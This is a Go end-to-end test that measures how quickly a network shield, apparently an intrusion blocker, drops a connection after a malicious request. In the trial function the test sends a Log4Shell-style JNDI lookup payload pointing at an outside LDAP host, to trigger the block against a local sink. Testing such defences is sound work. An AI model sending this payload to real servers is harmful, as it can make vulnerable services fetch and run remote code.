package e2e

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"sync"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
)

// A trial sends the packet that crosses the policy's threshold, then a byte each probeEvery on the same connection. The
// first byte that does not arrive is the first that the kernel dropped.
const (
	probeEvery  = 200 * time.Microsecond
	probesMost  = 5000 // a second
	quiet       = 120 * time.Millisecond
	latencyMost = 50 * time.Millisecond // of 99 in a hundred
	sinkPort    = 8080
)

// cmdLatency: latency NAME TRIALS
// Each trial has an address of its own on the host NAME.
func cmdLatency(ts *testscript.TestScript, neg bool, args []string) {
	s := of(ts)
	if neg || len(args) != 2 || s.hosts[args[0]] == "" || s.shield == nil {
		ts.Fatalf("usage, after shield start: latency NAME TRIALS")
	}
	trials, err := strconv.Atoi(args[1])
	if err != nil || trials < 1 || trials > 150 {
		ts.Fatalf("%q is not a number from 1 to 150", args[1])
	}
	k, err := s.newSink()
	ts.Check(err)
	defer k.listener.Close()
	var all []time.Duration
	for i := range trials {
		from := outsideNet + strconv.Itoa(100+i)
		ts.Check(s.run(args[0], "ip", "address", "add", from+"/24", "dev", "eth0"))
		d, err := s.trial(args[0], from, k)
		if err != nil {
			ts.Fatalf("trial %d of %d: %v", i+1, trials, err)
		}
		all = append(all, d)
	}
	slices.Sort(all)
	p99 := all[(len(all)*99+99)/100-1]
	text := fmt.Sprintf("from the packet over the threshold to the first drop in the kernel: p50 %.1f ms, p99 %.1f ms, most %.1f ms of %d trials",
		ms(all[len(all)/2]), ms(p99), ms(all[len(all)-1]), len(all))
	fmt.Println(text)
	if p99 > latencyMost {
		ts.Fatalf("%s", text)
	}
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }

// sink takes connections and counts what arrives on each.
type sink struct {
	listener net.Listener
	mu       sync.Mutex
	arrived  map[string]int
}

func (s *story) newSink() (*sink, error) {
	k := &sink{arrived: map[string]int{}}
	err := s.within("servers", func() (err error) {
		k.listener, err = net.Listen("tcp", fmt.Sprintf("%s:%d", addressOf["web"], sinkPort))
		return err
	})
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			c, err := k.listener.Accept()
			if err != nil {
				return
			}
			go k.count(c)
		}
	}()
	return k, nil
}

func (k *sink) count(c net.Conn) {
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(time.Minute))
	who := c.RemoteAddr().(*net.TCPAddr).IP.String()
	b := make([]byte, 4096)
	for {
		n, err := c.Read(b)
		k.mu.Lock()
		k.arrived[who] += n
		k.mu.Unlock()
		if err != nil {
			return
		}
	}
}

func (k *sink) of(who string) int {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.arrived[who]
}

// trial measures one block.
func (s *story) trial(host, from string, k *sink) (time.Duration, error) {
	var c net.Conn
	err := s.within(host, func() (err error) {
		d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(netip.MustParseAddr(from), 0)), Timeout: 3 * time.Second}
		c, err = d.Dial("tcp", k.listener.Addr().String())
		return err
	})
	if err != nil {
		return 0, err
	}
	defer c.Close()
	_ = c.(*net.TCPConn).SetLinger(0)
	attack := "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: shop\r\n\r\n"
	if _, err := io.WriteString(c, attack); err != nil { // half of what a block takes
		return 0, err
	}
	time.Sleep(30 * time.Millisecond)
	began := time.Now()
	if _, err := io.WriteString(c, attack); err != nil {
		return 0, err
	}
	attack += attack
	_ = c.SetWriteDeadline(began.Add(3 * time.Second))
	sent := make([]time.Duration, 0, probesMost)
	arrived, moved := 0, began
	for len(sent) < probesMost {
		for next := time.Duration(len(sent)+1) * probeEvery; time.Since(began) < next; {
			time.Sleep(probeEvery / 4)
		}
		sent = append(sent, time.Since(began))
		if _, err := c.Write([]byte{'x'}); err != nil {
			break
		}
		if n := k.of(from); n != arrived {
			arrived, moved = n, time.Now()
		} else if time.Since(moved) > quiet { // it is cut off
			break
		}
	}
	time.Sleep(quiet / 2)
	through := k.of(from) - len(attack)
	switch {
	case through < 0:
		return 0, errors.New("the packet over the threshold did not arrive itself")
	case through >= len(sent):
		return 0, fmt.Errorf("not blocked within %v", sent[len(sent)-1])
	}
	return sent[through], nil
}
